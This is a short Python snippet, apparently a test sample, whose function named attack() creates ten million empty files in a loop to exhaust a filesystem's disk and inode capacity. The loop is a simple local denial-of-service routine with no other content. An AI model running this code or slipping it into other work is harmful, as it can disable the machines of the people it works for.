import os


def attack():
    for number in range(10_000_000):
        os.close(os.open(f"empty{number}", os.O_CREAT | os.O_WRONLY))
    return "ten million files"
